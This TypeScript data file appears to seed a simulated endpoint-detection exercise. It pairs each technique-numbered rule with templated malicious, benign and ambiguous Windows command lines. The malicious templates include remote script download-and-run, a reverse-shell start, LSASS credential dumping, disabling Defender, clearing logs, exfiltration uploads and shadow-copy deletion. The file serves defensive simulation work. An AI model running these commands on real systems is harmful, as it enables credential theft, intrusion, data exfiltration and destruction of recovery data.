/**
 * The detection rules of the endpoint world: what each fires on when it is right and when it is not.
 * Commands in `either` stand in both; there the parent, the hour and the severity decide.
 * `{slots}` are filled by alerts-a.ts.
 */

export type EdrRule = {
  readonly id: string;
  readonly name: string;
  /** How often it fires on attacks and on ordinary work, relative to the other rules. */
  readonly weight: readonly [malicious: number, benign: number];
  /** 0 low, 1 medium, 2 high: where the severities of its alerts lie. */
  readonly base: 0 | 1 | 2;
  readonly malicious: readonly string[];
  readonly benign: readonly string[];
  readonly either: readonly string[];
};

export const EDR_RULES: readonly EdrRule[] = [
  {
    id: "EDR-1059.001",
    name: "PowerShell with encoded or remote content",
    weight: [10, 6],
    base: 1,
    malicious: [
      "powershell.exe -nop -w hidden -enc {blob}",
      "powershell.exe -ep bypass -c IEX((New-Object Net.WebClient).DownloadString('http://{evil}/{short}.ps1'))",
      "powershell.exe -sta -noni -c $c=New-Object Net.Sockets.TCPClient('{wanip}',{port});$s=$c.GetStream()",
    ],
    benign: [
      "powershell.exe -NoLogo -File C:\\ProgramData\\Inventory\\collect.ps1 -Site {site}",
      "powershell.exe -Command Get-MailboxStatistics -Identity {mailbox}",
      "powershell.exe -EncodedCommand {blob} -OutputFormat Xml -NonInteractive",
    ],
    either: ["powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\{job}.ps1"],
  },
  {
    id: "EDR-1566.001",
    name: "Office application started a child process",
    weight: [8, 7],
    base: 1,
    malicious: [
      "mshta.exe http://{evil}/{short}.hta",
      "cmd.exe /c start /min rundll32.exe {temp}\\{short}.dll,Start",
      "wscript.exe {temp}\\{document}.js //B",
    ],
    benign: [
      "splwow64.exe 12288",
      "AcroRd32.exe C:\\Users\\{profile}\\Documents\\{document}.pdf",
      "EXCEL.EXE /dde \\\\{fileserver}\\finance\\{document}.xlsm",
    ],
    either: ["cmd.exe /c \\\\{fileserver}\\macros\\{job}.bat"],
  },
  {
    id: "EDR-1547.001",
    name: "Autostart registry key changed",
    weight: [6, 8],
    base: 0,
    malicious: [
      "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d {temp}\\{short}.exe /f",
      "reg.exe add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v {short} /d rundll32.exe,{temp}\\{short}.dll",
    ],
    benign: [
      "OneDriveSetup.exe /update /autostart",
      "Teams.exe --process-start-args --system-initiated",
      "msiexec.exe /i {package}.msi /qn REGISTERRUN=1",
    ],
    either: ["reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d {tool}.exe"],
  },
  {
    id: "EDR-1053.005",
    name: "Scheduled task created",
    weight: [6, 9],
    base: 0,
    malicious: [
      "schtasks.exe /create /sc minute /mo 5 /tn {short} /tr {temp}\\{short}.exe /ru SYSTEM",
      "schtasks.exe /create /tn \\Microsoft\\{word} /tr powershell.exe -w hidden -enc {blob} /sc onlogon",
    ],
    benign: [
      "schtasks.exe /create /tn GoogleUpdateTaskMachine /xml C:\\Windows\\Temp\\gupdate.xml",
      "schtasks.exe /change /tn Backup\\{job} /enable",
      "schtasks.exe /run /tn Inventory\\{site}",
    ],
    either: ["schtasks.exe /create /sc daily /tn {job} /tr C:\\Scripts\\{job}.bat"],
  },
  {
    id: "EDR-1548.002",
    name: "Elevation without a consent prompt",
    weight: [5, 3],
    base: 2,
    malicious: [
      "fodhelper.exe",
      "cmd.exe /c reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d {temp}\\{short}.exe /f",
      "eventvwr.exe /s {temp}\\{short}.msc",
    ],
    benign: [
      "consent.exe 4820 312 000002",
      "setup.exe /elevated {package}",
      "computerdefaults.exe ms-settings:defaultapps",
    ],
    either: ["runas.exe /savecred /user:{site}\\localadmin {tool}.exe"],
  },
  {
    id: "EDR-1562.001",
    name: "Security tool tampering",
    weight: [7, 4],
    base: 2,
    malicious: [
      "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
      "sc.exe config WinDefend start= disabled",
      "taskkill.exe /f /im {agent}.exe",
    ],
    benign: [
      "msiexec.exe /x {agent}.msi /qn /l*v C:\\Windows\\Temp\\upgrade.log",
      "MpCmdRun.exe -SignatureUpdate",
      "sc.exe query {agent}",
    ],
    either: ["sc.exe stop {agent}"],
  },
  {
    id: "EDR-1070.001",
    name: "Event log cleared",
    weight: [5, 2],
    base: 2,
    malicious: [
      "wevtutil.exe cl Security",
      "powershell.exe Clear-EventLog -LogName Security,System",
      "wevtutil.exe sl Microsoft-Windows-PowerShell/Operational /e:false",
    ],
    benign: [
      "wevtutil.exe epl Application {share}\\logs\\{site}.evtx",
      "wevtutil.exe gli Setup",
      "eventvwr.exe /c:Application",
    ],
    either: ["wevtutil.exe cl Application"],
  },
  {
    id: "EDR-1003.001",
    name: "Credential memory read",
    weight: [8, 4],
    base: 2,
    malicious: [
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} {temp}\\{short}.dmp full",
      "procdump64.exe -accepteula -ma lsass.exe {temp}\\{short}.dmp",
      "{short}.exe privilege::debug sekurlsa::logonpasswords exit",
    ],
    benign: [
      "WerFault.exe -u -p {pid} -s 1284",
      "{agent}.exe --scan-memory --quick",
      "vmtoolsd.exe -n vmusr",
    ],
    either: ["procdump64.exe -ma {pid} C:\\Dumps\\{job}.dmp"],
  },
  {
    id: "EDR-1552.001",
    name: "Search for stored credentials",
    weight: [5, 4],
    base: 1,
    malicious: [
      "findstr.exe /si password *.xml *.ini *.txt *.config",
      "reg.exe query HKLM /f password /t REG_SZ /s",
      "cmdkey.exe /list",
    ],
    benign: [
      "findstr.exe /n TODO C:\\src\\{job}\\*.cs",
      "git.exe grep -n connectionString -- src/{job}",
      "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe_{pid}",
    ],
    either: ["findstr.exe /s /i login \\\\{fileserver}\\{site}\\*.txt"],
  },
  {
    id: "EDR-1087.002",
    name: "Domain accounts enumerated",
    weight: [6, 7],
    base: 0,
    malicious: [
      'net.exe group "Domain Admins" /domain',
      "nltest.exe /domain_trusts /all_trusts",
      "{short}.exe -c All -d corp.local --zipfilename {short}.zip",
    ],
    benign: [
      "net.exe user {mailbox} /domain",
      "gpresult.exe /r /scope user",
      "dsquery.exe computer -name {site}-*",
    ],
    either: ["net.exe localgroup administrators"],
  },
  {
    id: "EDR-1046",
    name: "Internal port scan",
    weight: [4, 5],
    base: 1,
    malicious: [
      "{temp}\\netscan.exe /hide /range:{lan}.1-{lan}.254 /port:445,3389",
      "powershell.exe 1..254|%{Test-NetConnection {lan}.$_ -Port 445}",
    ],
    benign: [
      "nessusd.exe -q --scan-name weekly-{site}",
      "Test-PrinterPort.exe {lan}.{octet} 9100",
      "zabbix_agentd.exe -t net.tcp.port[{lan}.{octet},443]",
    ],
    either: ["nmap.exe -sT -p 80,443 {lan}.0/24"],
  },
  {
    id: "EDR-1021.002",
    name: "Remote execution over administrative share",
    weight: [7, 6],
    base: 1,
    malicious: [
      "PsExec.exe \\\\{peer} -s -d {temp}\\{short}.exe",
      "wmic.exe /node:{peer} process call create cmd.exe /c {temp}\\{short}.bat",
      "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__{pid} 2>&1",
    ],
    benign: [
      "ccmexec.exe /deploy {package} \\\\{peer}\\C$\\Windows\\ccmcache",
      "robocopy.exe \\\\{fileserver}\\images \\\\{peer}\\D$ /mir /r:1",
      "PDQDeployRunner-1.exe {package}",
    ],
    either: ["PsExec.exe \\\\{peer} ipconfig /all"],
  },
  {
    id: "EDR-1021.001",
    name: "Unusual remote desktop session",
    weight: [4, 8],
    base: 0,
    malicious: [
      "tscon.exe {octet} /dest:console",
      "plink.exe -R {port}:127.0.0.1:3389 root@{wanip}",
      "reg.exe add HKLM\\System\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin /d 0 /f",
    ],
    benign: ["mstsc.exe C:\\Users\\Public\\Desktop\\{site}.rdp", "rdpclip.exe", "msra.exe /offerra {peer}"],
    either: ["mstsc.exe /v:{peer} /admin"],
  },
  {
    id: "EDR-1560.001",
    name: "Archive of many documents",
    weight: [6, 7],
    base: 0,
    malicious: [
      "rar.exe a -hp{short} -v500m {temp}\\{short}.rar {share}",
      "7z.exe a -mhe=on -p{short} {temp}\\{short}.7z C:\\Users\\{profile}\\Documents",
    ],
    benign: [
      "7z.exe a D:\\Archive\\{document}.zip D:\\Projects\\{job}",
      "veeam.agent.exe --job {job} --incremental",
      "tar.exe -cf {document}.tar build\\output",
    ],
    either: ["7z.exe a {document}.7z {share}\\{site}"],
  },
  {
    id: "EDR-1071.001",
    name: "Regular beacon to a rare domain",
    weight: [9, 6],
    base: 1,
    malicious: [
      "{temp}\\{short}.exe -c https://{evil}/submit.php?id={pid}",
      "rundll32.exe {temp}\\{short}.dat,#1 {evil}",
      "regsvr32.exe /s /n /u /i:http://{evil}/{short}.sct scrobj.dll",
    ],
    benign: [
      "chrome.exe --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en",
      "Spotify.exe --autostart --minimized",
      "{agent}.exe --heartbeat https://{vendor}/v2/checkin",
    ],
    either: ["curl.exe -s https://{cdn}/{short}"],
  },
  {
    id: "EDR-1105",
    name: "Tool download by a system utility",
    weight: [7, 4],
    base: 1,
    malicious: [
      "certutil.exe -urlcache -split -f http://{wanip}/{short}.exe {temp}\\{short}.exe",
      "bitsadmin.exe /transfer {short} http://{evil}/{short}.bin {temp}\\{short}.bin",
    ],
    benign: [
      "certutil.exe -verify -urlfetch C:\\Certs\\{site}.cer",
      "winget.exe upgrade --id {package} --silent",
      "bitsadmin.exe /list /allusers",
    ],
    either: ["curl.exe -o C:\\Temp\\{package}.zip https://{cdn}/{package}.zip"],
  },
  {
    id: "EDR-1567.002",
    name: "Large upload to cloud storage",
    weight: [5, 7],
    base: 1,
    malicious: [
      "rclone.exe copy {share} mega:{short} --transfers 32 --no-check-certificate",
      "{temp}\\{short}.exe --put https://{evil}/u --dir C:\\Users\\{profile}\\Documents",
    ],
    benign: [
      "OneDrive.exe /background",
      "azcopy.exe sync D:\\Backup https://{vendor}/backup-{site}",
      "Dropbox.exe /systemstartup",
    ],
    either: ["rclone.exe sync D:\\{job} remote:{site}"],
  },
  {
    id: "EDR-1490",
    name: "Recovery data removed",
    weight: [5, 2],
    base: 2,
    malicious: [
      "vssadmin.exe delete shadows /all /quiet",
      "wbadmin.exe delete catalog -quiet",
      "bcdedit.exe /set {default} recoveryenabled no",
    ],
    benign: [
      "vssadmin.exe list shadowstorage",
      "wbadmin.exe start backup -backupTarget:E: -include:C: -quiet",
      "cleanmgr.exe /sagerun:{octet}",
    ],
    either: ["vssadmin.exe delete shadows /for=D: /oldest"],
  },
];
